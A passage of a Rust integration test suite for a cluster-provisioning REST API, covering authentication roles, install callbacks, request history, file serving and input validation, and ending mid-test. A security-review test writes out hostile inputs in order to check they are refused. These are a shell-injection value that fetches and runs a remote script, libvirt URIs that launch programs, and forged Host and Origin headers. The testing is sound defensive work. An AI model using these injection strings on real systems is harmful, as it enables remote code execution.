    let (_, v) = call(&st, "GET", "/v1/nodes/g2", None).await;
    assert_eq!(v["control_info"]["vm_memory"], 64);
    assert!(v["control_info"].get("vm_host").is_none(), "{v}");
    let (_, v) = call(&st, "PUT", "/v1/nodes/power?target=on&noderange=g2", None).await;
    assert!(
        v["nodes"]["g2"]
            .as_str()
            .unwrap()
            .starts_with("control_info.vm_host: not set"),
        "{v}"
    );
    let (_, v) = call(&st, "DELETE", "/v1/nodes/vm?noderange=g2", None).await;
    assert_eq!(v["nodes"]["g2"], "absent");
}

#[tokio::test]
async fn health_and_readiness() {
    let st = state().await;
    let (s, v) = call(&st, "GET", "/healthz", None).await;
    assert_eq!((s, v), (StatusCode::OK, json!({"status": "ok"})));
    // No conductor yet: not ready, and the body says why.
    let (s, v) = call(&st, "GET", "/readyz", None).await;
    assert_eq!(s, StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(
        v,
        json!({"ready": false, "database": "ok", "bus": "ok", "live_conductors": 0})
    );
    let st = state_with_conductor().await;
    let (s, v) = call(&st, "GET", "/readyz", None).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["live_conductors"], 1);
}

#[tokio::test]
async fn openapi_lists_every_route() {
    let st = state().await;
    let (s, doc) = call(&st, "GET", "/v1/openapi.json", None).await;
    assert_eq!(s, StatusCode::OK);
    let paths = doc["paths"].as_object().unwrap();
    for p in [
        "/v1/nodes",
        "/v1/nodes/info",
        "/v1/nodes/{name}",
        "/v1/nics",
        "/v1/nics/address",
        "/v1/nics/node",
        "/v1/nics/{uuid}",
        "/v1/networks",
        "/v1/networks/{name}",
        "/v1/passwds",
        "/v1/passwds/{key}",
        "/v1/passwds/get_by_id",
        "/v1/osimages",
        "/v1/osimages/{name}",
        "/v1/osimages/get_by_id",
        "/v1/services",
        "/v1/services/hostname",
        "/v1/requests",
        "/v1/requests/{id}",
        "/v1/nodes/inventory",
        "/v1/nodes/vitals",
        "/v1/nodes/eventlog",
        "/v1/nodes/beacon",
        "/v1/nodes/health",
    ] {
        assert!(
            paths.contains_key(p),
            "{p} missing from the OpenAPI document"
        );
    }
    // And every documented path answers something other than the fallback.
    for p in paths.keys() {
        let uri = p
            .replace("{name}", "x")
            .replace("{uuid}", "x")
            .replace("{key}", "x")
            .replace("{id}", "x");
        let (s, v) = call(&st, "GET", &uri, None).await;
        let fallback = v["faultstring"]
            .as_str()
            .is_some_and(|f| f.starts_with("no such resource"));
        assert!(!fallback, "{uri} ({s}) is documented but not routed");
    }
}

#[tokio::test]
async fn provision_targets_and_the_install_callback() {
    let st = state_with_conductor().await;
    call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "n1", "mgt": "fake"}, {"name": "n2", "mgt": "fake"}]})),
    )
    .await;
    let (code, v) = call(
        &st,
        "PUT",
        "/v1/nodes/provision?target=install&noderange=n1",
        None,
    )
    .await;
    assert_eq!(code, StatusCode::BAD_REQUEST);
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .contains("dhcp, nodeset, un_dhcp, un_nodeset"),
        "{v}"
    );
    let (code, v) = call(
        &st,
        "PUT",
        "/v1/nodes/provision?target=dhcp&osimage=x&noderange=n1",
        None,
    )
    .await;
    assert_eq!(code, StatusCode::BAD_REQUEST);
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .contains("osimage: only with target=nodeset")
    );
    let (code, v) = call(
        &st,
        "PUT",
        "/v1/nodes/provision?target=nodeset&osimage=nope&noderange=n1",
        None,
    )
    .await;
    assert_eq!(code, StatusCode::BAD_REQUEST);
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .contains("`nope` does not exist")
    );
    // A node that cannot be deployed gets its own error naming the field.
    let (code, v) = call(
        &st,
        "PUT",
        "/v1/nodes/provision?target=nodeset&noderange=n1",
        None,
    )
    .await;
    assert_eq!(code, StatusCode::ACCEPTED);
    assert!(
        v["nodes"]["n1"]
            .as_str()
            .unwrap()
            .starts_with("nics_info: no nic"),
        "{v}"
    );

    // n1 deploying with a token, as a conductor records it.
    let cols = ["state", "deploy_token"];
    let row = |s: &str, t: &str| vec![Some(s.to_string()).into(), Some(t.to_string()).into()];
    xcat3_db::nodes::set_columns(
        &st.db,
        &cols,
        &[("n1".into(), row("deploying", "tok1"))],
        None,
    )
    .await
    .unwrap();
    let (_, v) = call(&st, "GET", "/v1/nodes?state=deploying", None).await;
    assert_eq!(v["nodes"], json!(["n1"]));
    let (_, v) = call(&st, "GET", "/v1/nodes?state=available", None).await;
    assert_eq!(v["nodes"], json!(["n2"]));
    let (code, _) = call(&st, "GET", "/v1/nodes?state=sleeping", None).await;
    assert_eq!(code, StatusCode::BAD_REQUEST);

    let cb = "/v1/nodes/provision/callback";
    // n1 boots from 10.9.0.21: its callback is taken from there only.
    let (code, v) = call(
        &st,
        "POST",
        "/v1/nics",
        Some(json!({"mac": "02:00:00:09:00:21", "node": "n1", "ip": "10.9.0.21"})),
    )
    .await;
    assert_eq!(code, StatusCode::CREATED, "{v}");
    let n1 = "10.9.0.21:40000";
    let (code, _) = call_from(&st, n1, "PUT", cb, Some(json!({"token": "tok1"}))).await;
    assert_eq!(code, StatusCode::BAD_REQUEST, "no name");
    let (code, _) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), None).await;
    assert_eq!(code, StatusCode::UNAUTHORIZED);
    let (code, _) = call_from(
        &st,
        n1,
        "PUT",
        &format!("{cb}?name=n1"),
        Some(json!({"fetch_ssh_pub": "root"})),
    )
    .await;
    assert_eq!(code, StatusCode::BAD_REQUEST, "v1's key handout is gone");
    // Every refusal reads the same: an unknown node, one not deploying, a
    // wrong token, the right token from another address or from nowhere
    // known. The callback tells nobody which nodes exist or their state.
    let tok1 = Some(json!({"token": "tok1"}));
    let mut refusals = Vec::new();
    for (peer, name, body) in [
        (n1, "ghost", tok1.clone()),
        (n1, "n2", tok1.clone()),
        (n1, "n1", Some(json!({"token": "tok2"}))),
        ("127.0.0.1:40000", "n1", tok1.clone()),
        ("10.9.0.22:40000", "n1", tok1.clone()),
    ] {
        let (code, v) = call_from(&st, peer, "PUT", &format!("{cb}?name={name}"), body).await;
        assert_eq!(code, StatusCode::FORBIDDEN, "{peer} {name}: {v}");
        refusals.push(v);
    }
    let (code, v) = call(&st, "PUT", &format!("{cb}?name=n1"), tok1.clone()).await;
    assert_eq!(code, StatusCode::FORBIDDEN, "no peer address: {v}");
    refusals.push(v);
    assert!(refusals.windows(2).all(|w| w[0] == w[1]), "{refusals:?}");
    // A body larger than a callback needs is refused before it is parsed.
    let big = json!({"token": "x".repeat(256 * 1024)});
    let (code, _) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), Some(big)).await;
    assert_eq!(code, StatusCode::PAYLOAD_TOO_LARGE);
    let (code, v) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), tok1.clone()).await;
    assert_eq!(code, StatusCode::OK, "{v}");
    assert_eq!(v["nodes"]["n1"], "deployed");
    let (code, v) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), tok1.clone()).await;
    assert_eq!(code, StatusCode::FORBIDDEN, "a token works once");
    assert_eq!(v, refusals[0]);
    let (_, v) = call(&st, "GET", "/v1/nodes/n1", None).await;
    assert_eq!(v["state"], "deployed");
    assert!(
        v.get("deploy_token").is_none(),
        "tokens are never shown: {v}"
    );
    // deployed: dhcp and nodeset are refused until released.
    let (_, v) = call(
        &st,
        "PUT",
        "/v1/nodes/provision?target=dhcp&noderange=n1",
        None,
    )
    .await;
    assert!(
        v["nodes"]["n1"]
            .as_str()
            .unwrap()
            .contains("release the node first"),
        "{v}"
    );
}

/// `auth = "token"`: each role does what it may and no more; no token,
/// a wrong secret, an expired or revoked token are refused at once; the
/// open routes stay open.
#[tokio::test]
async fn token_roles_and_revocation() {
    use xcat3_api::auth::{Role, new_token};
    use xcat3_db::tokens;
    let st = state_with_conductor().await;
    let mut cfg = (*st.config).clone();
    cfg.api.auth = "token".into();
    let st = AppState::new(st.db.clone(), cfg, st.bus.clone());
    let mut text = std::collections::HashMap::new();
    for (name, role) in [
        ("ann", Role::Admin),
        ("otto", Role::Operator),
        ("rita", Role::Reader),
    ] {
        let (row, t) = new_token(name, role, None).unwrap();
        tokens::insert(&st.db, &row).await.unwrap();
        text.insert(name, t);
    }
    let (row, _) = new_token("ann", Role::Reader, None).unwrap();
    let dup = tokens::insert(&st.db, &row).await.unwrap_err();
    assert!(dup.to_string().contains("\"ann\" exists"), "{dup}");
    let (row, old) = new_token("old", Role::Admin, None).unwrap();
    let expired = tokens::TokenRow {
        expires_at: Some(chrono::Utc::now() - chrono::Duration::seconds(1)),
        ..row
    };
    tokens::insert(&st.db, &expired).await.unwrap();
    let (admin, operator, reader) = (&text["ann"], &text["otto"], &text["rita"]);

    let node = json!({"nodes": [{"name": "f1", "mgt": "fake"}]});
    let power = "/v1/nodes/power?target=on&noderange=f1";
    // method, uri, body, token, expected status
    type Case<'a> = (&'a str, &'a str, Option<Value>, Option<&'a str>, StatusCode);
    let cases: Vec<Case> = vec![
        // Open to anyone.
        ("GET", "/healthz", None, None, StatusCode::OK),
        ("GET", "/metrics", None, None, StatusCode::OK),
        ("GET", "/v1/openapi.json", None, None, StatusCode::OK),
        ("GET", "/v1", None, None, StatusCode::OK),
        // Everything else needs a token.
        ("GET", "/v1/nodes", None, None, StatusCode::UNAUTHORIZED),
        (
            "GET",
            "/v1/nodes",
            None,
            Some("xc3_nope"),
            StatusCode::UNAUTHORIZED,
        ),
        (
            "GET",
            "/v1/nodes",
            None,
            Some(old.as_str()),
            StatusCode::UNAUTHORIZED,
        ),
        // Reader: reads only.
        (
            "POST",
            "/v1/nodes",
            Some(node.clone()),
            Some(reader),
            StatusCode::FORBIDDEN,
        ),
        ("GET", "/v1/nodes", None, Some(reader), StatusCode::OK),
        // Admin: inventory.
        (
            "POST",
            "/v1/nodes",
            Some(node.clone()),
            Some(admin),
            StatusCode::CREATED,
        ),
        (
            "GET",
            "/v1/nodes/power?noderange=f1",
            None,
            Some(reader),
            StatusCode::OK,
        ),
        ("PUT", power, None, Some(reader), StatusCode::FORBIDDEN),
        // Operator: actions, not inventory.
        ("PUT", power, None, Some(operator), StatusCode::ACCEPTED),
        (
            "PUT",
            "/v1/nodes/boot_device?target=net&noderange=f1",
            None,
            Some(operator),
            StatusCode::ACCEPTED,
        ),
        (
            "PUT",
            "/v1/nodes/provision?target=un_nodeset&noderange=f1",
            None,
            Some(operator),
            StatusCode::ACCEPTED,
        ),
        (
            "PATCH",
            "/v1/nodes?noderange=f1",
            Some(json!({"patches": [{"op": "add", "path": "/type", "value": "x"}]})),
            Some(operator),
            StatusCode::FORBIDDEN,
        ),
        (
            "DELETE",
            "/v1/nodes?noderange=f1",
            None,
            Some(operator),
            StatusCode::FORBIDDEN,
        ),
        (
            "POST",
            "/v1/nodes/vm",
            Some(json!({})),
            Some(operator),
            StatusCode::FORBIDDEN,
        ),
        ("PUT", power, None, Some(admin), StatusCode::ACCEPTED),
        ("GET", "/v1/requests", None, Some(reader), StatusCode::OK),
    ];
    for (method, uri, body, token, want) in cases {
        let (s, v, h) = call_as(&st, method, uri, body, token).await;
        assert_eq!(s, want, "{method} {uri} as {token:?}: {v}");
        if s == StatusCode::UNAUTHORIZED {
            assert_eq!(h["www-authenticate"], "Bearer realm=\"xcat3\"");
        }
        if s == StatusCode::FORBIDDEN {
            let f = v["faultstring"].as_str().unwrap();
            assert!(f.contains("needs "), "{f}");
        }
    }
    // The callback has its own per-node token: not a 401 for lack of a
    // bearer token, but the handler's one uniform refusal.
    let (s, v, _) = call_as(
        &st,
        "PUT",
        "/v1/nodes/provision/callback?name=f1",
        Some(json!({"token": "x"})),
        None,
    )
    .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{v}");
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .starts_with("install callback refused"),
        "{v}"
    );
    // A wrong secret under a real id.
    let forged = format!("{}0", &operator[..operator.len() - 1]);
    let forged = if forged == *operator {
        format!("{}1", &operator[..operator.len() - 1])
    } else {
        forged
    };
    let (s, _, _) = call_as(&st, "GET", "/v1/nodes", None, Some(&forged)).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    // The history names who asked.
    let (_, v, _) = call_as(&st, "GET", "/v1/requests", None, Some(reader)).await;
    let by: Vec<&str> = v["requests"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["requested_by"].as_str())
        .collect();
    assert!(by.contains(&"otto") && by.contains(&"ann"), "{v}");
    // Revoked: refused on the very next request.
    assert!(tokens::revoke(&st.db, "otto").await.unwrap());
    let (s, _, _) = call_as(&st, "PUT", power, None, Some(operator)).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    assert!(!tokens::revoke(&st.db, "otto").await.unwrap());
    // X-Auth-Token (OpenStack clients) works as well.
    let req = Request::builder()
        .uri("/v1/nodes")
        .header("x-auth-token", reader.as_str())
        .body(Body::empty())
        .unwrap();
    assert_eq!(
        app(st.clone()).oneshot(req).await.unwrap().status(),
        StatusCode::OK
    );
}

/// Every action gets an id (the reply header); its per-node results can be
/// read back, with the failed nodes listed; reads of unknown ids are 404.
#[tokio::test]
async fn request_history_keeps_every_node_result() {
    let st = state_with_conductor().await;
    let nodes: Vec<Value> = (1..=30)
        .map(|i| json!({"name": format!("h{i}"), "mgt": "fake"}))
        .chain([json!({"name": "hbad", "mgt": "fake", "control_info": {"fake_fail_rate": 1}})])
        .collect();
    call(&st, "POST", "/v1/nodes", Some(json!({"nodes": nodes}))).await;
    let (s, v, h) = call_as(
        &st,
        "PUT",
        "/v1/nodes/power?target=on&noderange=h%5B1-30%5D,hbad,ghost",
        None,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    let id = h["xcat3-request-id"].to_str().unwrap().to_string();
    // The reply is complete only once the history is: read it at once.
    let (s, past) = call(&st, "GET", &format!("/v1/requests/{id}"), None).await;
    assert_eq!(s, StatusCode::OK, "{past}");
    assert_eq!(past["action"], "power on");
    assert_eq!(past["nodes"], 32);
    assert_eq!(past["failed"], 2);
    assert!(past["finished_at"].is_string());
    assert_eq!(
        past["results"], v["nodes"],
        "the history holds the reply's results"
    );
    assert_eq!(past["failed_nodes"], json!(["ghost", "hbad"]));
    // A client's own request id is replaced (ids key the history).
    let req = Request::builder()
        .method("PUT")
        .uri("/v1/nodes/power?target=off&noderange=h1")
        .header("xcat3-request-id", id.as_str())
        .body(Body::empty())
        .unwrap();
    let resp = app(st.clone()).oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::ACCEPTED);
    let second = resp.headers()["xcat3-request-id"]
        .to_str()
        .unwrap()
        .to_string();
    assert_ne!(second, id);
    let (_, list) = call(&st, "GET", "/v1/requests?limit=5", None).await;
    let listed: Vec<&str> = list["requests"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    assert!(
        listed.contains(&id.as_str()) && listed.contains(&second.as_str()),
        "{list}"
    );
    let (s, _) = call(&st, "GET", "/v1/requests/req-nope", None).await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = call(&st, "GET", "/v1/requests?limit=0", None).await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
}

/// `/install/` serves osimage trees (their dot-files too: conductors fetch
/// `.xcat3-image.json`), never the uploads beside them.
#[tokio::test]
async fn install_trees_are_served_but_not_uploads() {
    let dir = std::env::temp_dir().join(format!("xcat3-install-{}", std::process::id()));
    std::fs::create_dir_all(dir.join(".incoming")).unwrap();
    std::fs::create_dir_all(dir.join("rocky9-x86_64")).unwrap();
    std::fs::write(dir.join(".incoming/upload.iso"), b"partial").unwrap();
    std::fs::write(dir.join("rocky9-x86_64/.xcat3-image.json"), b"{}").unwrap();
    let st = state().await;
    let mut cfg = (*st.config).clone();
    cfg.api.install_dir = dir.display().to_string();
    let st = AppState::new(st.db.clone(), cfg, st.bus.clone());
    let (s, v) = call(&st, "GET", "/install/rocky9-x86_64/.xcat3-image.json", None).await;
    assert_eq!((s, v), (StatusCode::OK, json!({})));
    // Special files (a FIFO placed in a tree by hand, or by an older
    // copycds) are not opened: 404 at once instead of a pinned thread.
    let fifo = dir.join("rocky9-x86_64/pipe");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: mkfifo reads a NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    std::os::unix::fs::symlink("pipe", dir.join("rocky9-x86_64/to-pipe")).unwrap();
    for hidden in [
        "/install/.incoming/upload.iso",
        "/install/%2Eincoming/upload.iso",
        "/install/rocky9-x86_64/pipe",
        "/install/rocky9-x86_64/%70ipe",
        "/install/rocky9-x86_64/to-pipe",
    ] {
        let (s, v) = tokio::time::timeout(
            std::time::Duration::from_secs(30),
            call(&st, "GET", hidden, None),
        )
        .await
        .unwrap_or_else(|_| panic!("GET {hidden} hung"));
        assert_eq!(s, StatusCode::NOT_FOUND, "{hidden}: {v}");
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The review's findings that a router shows: each of these was accepted
/// (or answered in clear) before.
#[tokio::test]
async fn security_review_findings_are_refused() {
    let st = state().await;
    // 1. libvirt URIs that run programs, and user names that smuggle URI
    //    parts, are refused when the node is written, naming the field.
    let (s, v) = call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [
            {"name": "ext", "mgt": "kvm", "control_info": {"libvirt_uri": "qemu+ext:///system?command=/tmp/prog"}},
            {"name": "smuggle", "mgt": "kvm", "control_info": {"ssh_address": "hv1", "ssh_username": "root@evil/system?command=/tmp/prog&x="}},
            {"name": "sock", "mgt": "kvm", "control_info": {"libvirt_uri": "qemu:///system?socket=/tmp/s"}},
            {"name": "fine", "mgt": "kvm", "control_info": {"libvirt_uri": "qemu+ssh://root@hv1/system?keyfile=/root/.ssh/id_rsa"}},
            // 11. Shell in an answer-file value.
            {"name": "inject", "mgt": "fake", "control_info": {"install_disk": "/dev/sda;wget${IFS}http://x/a|sh;#"}},
        ]})),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let r = &v["nodes"];
    assert!(
        r["ext"]
            .as_str()
            .unwrap()
            .starts_with("control_info.libvirt_uri: transport `ext`"),
        "{v}"
    );
    assert!(
        r["smuggle"]
            .as_str()
            .unwrap()
            .starts_with("control_info.ssh_username:"),
        "{v}"
    );
    assert!(
        r["sock"]
            .as_str()
            .unwrap()
            .contains("parameter `socket` is not allowed"),
        "{v}"
    );
    assert!(
        r["inject"]
            .as_str()
            .unwrap()
            .starts_with("control_info.install_disk:"),
        "{v}"
    );
    assert_eq!(r["fine"], "ok", "{v}");
    let (_, v) = call(&st, "GET", "/v1/nodes", None).await;
    assert_eq!(v["nodes"], json!(["fine"]), "refused nodes were not stored");
    // ... and when patched in.
    let (s, v) = call(
        &st,
        "PATCH",
        "/v1/nodes?noderange=fine",
        Some(json!({"patches": [{"op": "replace", "path": "/control_info/libvirt_uri", "value": "qemu+ssh://root@hv1/system?netcat=/tmp/prog"}]})),
    )
    .await;
    assert!(
        v["nodes"]["fine"]
            .as_str()
            .is_some_and(|r| r.contains("parameter `netcat` is not allowed")),
        "{s} {v}"
    );

    // 10. Secrets inside lists and under every credential-like key.
    let (s, v) = call(
        &st,
        "POST",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "sw", "mgt": "fake", "nics_info": {"nics": [
            {"mac": "02:00:00:00:10:01", "extra": {"switches": [{"snmp_community": "public", "api_key": "k1"}], "ssh_passphrase": "pp", "my_secret": "s"}}
        ]}}]})),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let (_, shown) = call(&st, "GET", "/v1/nodes/sw", None).await;
    let text = shown.to_string();
    for secret in ["public", "k1", "\"pp\"", "\"s\""] {
        assert!(!text.contains(secret), "{secret} in {text}");
    }
    let (_, nics) = call(&st, "GET", "/v1/nics?fields=extra", None).await;
    assert!(!nics.to_string().contains("public"), "{nics}");

    // 4/7. A body that does not say it is JSON is refused and changes
    //      nothing (a cross-site form or text/plain POST).
    for ct in [
        Some("text/plain"),
        Some("application/x-www-form-urlencoded"),
        None,
    ] {
        let mut req = Request::builder().method("POST").uri("/v1/nodes");
        if let Some(ct) = ct {
            req = req.header("content-type", ct);
        }
        let req = req
            .body(Body::from(
                json!({"nodes": [{"name": "csrf", "mgt": "fake"}]}).to_string(),
            ))
            .unwrap();
        let resp = app(st.clone()).oneshot(req).await.unwrap();
        assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE, "{ct:?}");
    }
    let (_, v) = call(&st, "GET", "/v1/nodes/csrf", None).await;
    assert!(v["faultstring"].is_string(), "csrf was not created: {v}");

    // 7. With auth = "none": DNS rebinding (a foreign Host) and foreign
    //    Origins are refused; the API's own origin and loopback pass.
    let send = |host: Option<&'static str>, origin: Option<&'static str>| {
        let st = st.clone();
        async move {
            let mut req = Request::builder()
                .method("DELETE")
                .uri("/v1/nodes?noderange=fine");
            if let Some(h) = host {
                req = req.header("host", h);
            }
            if let Some(o) = origin {
                req = req.header("origin", o);
            }
            app(st)
                .oneshot(req.body(Body::empty()).unwrap())
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(
        send(Some("evil.example:3010"), None).await,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        send(Some("127.0.0.1:3010"), Some("http://evil.example")).await,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        send(Some("localhost:3010"), Some("http://127.0.0.1:3010")).await,
        StatusCode::FORBIDDEN
    );
    let (_, v) = call(&st, "GET", "/v1/nodes", None).await;
    assert!(
        v["nodes"].as_array().unwrap().contains(&json!("fine")),
        "not deleted: {v}"
    );
    assert_eq!(
        send(Some("127.0.0.1:3010"), Some("http://127.0.0.1:3010")).await,
        StatusCode::ACCEPTED
    );
}

/// A node's `control_info` keys are checked against its hardware type when
/// it is written (create, update, import): an unknown key is refused,
/// naming the field and the valid keys, and nothing of that node changes.
#[tokio::test]
async fn control_info_keys_are_checked_against_the_hardware_type() {
    let st = state().await;
    let nodes = json!({"nodes": [
        {"name": "typo", "mgt": "ipmi", "control_info": {"bmc_adress": "10.0.0.1"}},
        {"name": "ok1", "mgt": "ipmi", "control_info": {"bmc_address": "10.0.0.1", "cipher_suite": 17}},
        {"name": "mixed", "mgt": "redfish", "control_info": {"cipher_suite": 3}},
        {"name": "hv", "type": "hypervisor", "mgt": "ipmi",
         "control_info": {"bmc_address": "10.0.0.2", "libvirt_uri": "qemu:///system"}},
        {"name": "unset", "control_info": {"colour": "red"}},
    ]});
    let (s, v) = call(&st, "POST", "/v1/nodes", Some(nodes)).await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let r = &v["nodes"];
    let typo = r["typo"].as_str().unwrap();
    assert!(
        typo.starts_with("control_info.bmc_adress: unknown key for mgt=ipmi (valid: "),
        "{typo}"
    );
    assert!(
        typo.contains("bmc_address") && typo.contains("bmc_password"),
        "{typo}"
    );
    assert_eq!(r["ok1"], "ok");
    assert!(
        r["mixed"]
            .as_str()
            .unwrap()
            .starts_with("control_info.cipher_suite: unknown key for mgt=redfish"),
        "{v}"
    );
    assert_eq!(r["hv"], "ok", "hypervisors carry a libvirt connection");
    assert!(
        r["unset"]
            .as_str()
            .unwrap()
            .starts_with("control_info.colour: unknown key for any mgt"),
        "{v}"
    );
    // Update: the misspelt key is refused, the node keeps what it had.
    let (_, v) = call(
        &st,
        "PATCH",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "ok1"}], "patches": [
            {"op": "add", "path": "/control_info/bmc_pasword", "value": "x"}]})),
    )
    .await;
    assert!(
        v["nodes"]["ok1"]
            .as_str()
            .unwrap()
            .starts_with("control_info.bmc_pasword: unknown key for mgt=ipmi"),
        "{v}"
    );
    // Changing mgt re-checks the keys the node holds.
    let (_, v) = call(
        &st,
        "PATCH",
        "/v1/nodes",
        Some(json!({"nodes": [{"name": "ok1"}], "patches": [
            {"op": "replace", "path": "/mgt", "value": "redfish"}]})),
    )
    .await;
    assert!(
        v["nodes"]["ok1"]
            .as_str()
            .unwrap()
            .starts_with("control_info.cipher_suite: unknown key for mgt=redfish"),
        "{v}"
    );
    let (_, v) = call(&st, "GET", "/v1/nodes/ok1?fields=mgt,control_info", None).await;
    assert_eq!(v["mgt"], "ipmi");
    assert_eq!(v["control_info"]["cipher_suite"], 17);
    assert!(v["control_info"].get("bmc_pasword").is_none());
}

/// `GET /v1/drivers`: every hardware type with its interfaces (null when
/// not offered) and the keys each reads, required or not, secret or not.
#[tokio::test]
async fn drivers_describe_types_interfaces_and_properties() {
    let st = state().await;
    let (s, v) = call(&st, "GET", "/v1/drivers", None).await;
    assert_eq!(s, StatusCode::OK);
    let names: Vec<&str> = v["drivers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["ipmi", "redfish", "kvm", "fake"]);
    let deploy: Vec<&str> = v["common"]["deploy"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        deploy,
        [
            "install_disk",
            "install_packages",
            "install_args",
            "ssh_authorized_keys",
            "postscripts"
        ]
    );

    let (s, ipmi) = call(&st, "GET", "/v1/drivers/ipmi", None).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(ipmi["interfaces"]["console"]["driver"], "ipmi-sol");
    assert!(ipmi["interfaces"]["vm"].is_null());
    let power = &ipmi["interfaces"]["power"];
    assert_eq!(power["driver"], "ipmi");
    let prop = |name: &str| -> Value {
        power["properties"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("no {name} in {power}"))
    };
    assert_eq!(prop("bmc_address")["required"], true);
    assert_eq!(prop("bmc_password")["secret"], true);
    assert_eq!(prop("bmc_port")["required"], false);
    assert_eq!(prop("bmc_port")["secret"], false);
    let (_, kvm) = call(&st, "GET", "/v1/drivers/kvm", None).await;
    assert_eq!(kvm["interfaces"]["vm"]["driver"], "libvirt");
    let (s, v) = call(&st, "GET", "/v1/drivers/ipmx", None).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{v}");
    assert!(
        v["faultstring"]
            .as_str()
            .unwrap()
            .contains("ipmi, kvm, redfish, fake")
    );
}

/// Every failed node's result carries a kind beside its v1 message: in the
/// NDJSON lines (`error_kinds`), the history and the metrics.
#[tokio::test]
async fn failures_carry_their_kind() {
    let st = state_with_conductor().await;
    let nodes = json!({"nodes": [
        {"name": "good", "mgt": "fake"},
        {"name": "broken", "mgt": "fake", "control_info": {"fake_fail_rate": 1}},
        {"name": "nopass", "mgt": "ipmi", "control_info": {"bmc_address": "127.0.0.1"}},
        {"name": "bare"},
    ]});
    call(&st, "POST", "/v1/nodes", Some(nodes)).await;
    let (s, v, h) = call_as(
        &st,
        "PUT",
        "/v1/nodes/power?target=on&noderange=good,broken,nopass,bare,ghost",
        None,
        None,
    )
    .await;
    assert_eq!(s, StatusCode::ACCEPTED, "{v}");
    assert_eq!(v["nodes"]["good"], "ok");
    assert_eq!(v["nodes"]["broken"], "fake: injected failure");
    // The plain JSON reply is exactly v1's: the kinds are in the history.
    assert_eq!(v.as_object().unwrap().len(), 1, "{v}");
    let id = h["xcat3-request-id"].to_str().unwrap().to_string();
    let (_, past) = call(&st, "GET", &format!("/v1/requests/{id}"), None).await;
    assert_eq!(
        past["error_kinds"],
        json!({"broken": "bmc_error", "nopass": "invalid", "bare": "invalid", "ghost": "not_found"}),
        "{past}"
    );

    // Streamed: each line carries the kinds of its own nodes.
    let req = Request::builder()
        .method("PUT")
        .uri("/v1/nodes/power?target=off&noderange=good,broken")
        .header("accept", "application/x-ndjson")
        .body(Body::empty())
        .unwrap();
    let resp = app(st.clone()).oneshot(req).await.unwrap();
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    let mut kinds = serde_json::Map::new();
    for line in String::from_utf8_lossy(&bytes).lines() {
        let l: Value = serde_json::from_str(line).unwrap();
        if let Some(k) = l["error_kinds"].as_object() {
            kinds.extend(k.clone());
        }
    }
    assert_eq!(Value::Object(kinds), json!({"broken": "bmc_error"}));

    let text = metrics_text(&st).await;
    for line in [
        "xcat3_api_node_errors_total{action=\"power\",kind=\"bmc_error\"} 2",
        "xcat3_api_node_errors_total{action=\"power\",kind=\"not_found\"} 1",
        "xcat3_conductor_driver_errors_total{mgt=\"ipmi\",action=\"power\",kind=\"invalid\"} 1",
    ] {
        assert!(text.lines().any(|l| l == line), "{line} not in\n{text}");
    }

    // The OpenAPI document names the same kinds.
    let (_, doc) = call(&st, "GET", "/v1/openapi.json", None).await;
    let documented: Vec<&str> = doc["components"]["schemas"]["ErrorKind"]["enum"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| k.as_str().unwrap())
        .collect();
    let kinds: Vec<&str> = xcat3_common::rpc::ErrorKind::ALL
        .iter()
        .map(|k| k.as_str())
        .collect();
    assert_eq!(documented, kinds);
}

#[tokio::test]
async fn groups_give_their_members_attributes_and_name_them_in_noderanges() {
    let st = state_with_conductor().await;
    // `compute` makes nodes fake-managed; `broken` sets a failure rate;
    // `bmcs` a mgt that wins over compute's when listed first.
    for g in [
        json!({"name": "compute", "mgt": "fake", "arch": "x86_64"}),
        json!({"name": "broken", "netboot": "ipxe", "control_info": {"fake_fail_rate": 1}}),
        json!({"name": "bmcs", "mgt": "ipmi", "control_info": {"bmc_username": "admin"}}),
        json!({"name": "rack1"}),
    ] {
        let (s, v) = call(&st, "POST", "/v1/groups", Some(g)).await;
